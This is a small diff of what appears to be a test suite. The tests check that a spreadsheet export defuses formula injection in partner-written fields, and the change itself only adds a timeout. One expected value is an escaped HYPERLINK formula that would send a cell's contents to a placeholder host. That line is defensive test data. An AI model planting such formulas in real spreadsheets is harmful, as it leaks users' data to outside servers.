@@ -46,5 +46,5 @@ describe.each(engines)('exports neutralise what partners wrote (%s)', (engine) =
     expect(byName.get("'=1+2")?.[remarkCol]).toBe(`'=HYPERLINK("http://e.x/"&A2)`);
     // Nothing in the file is a formula cell.
     sheet.eachRow((row) => row.eachCell((cell) => expect(cell.formula, String(cell.value)).toBeUndefined()));
-  });
+  }, 180_000);
 });
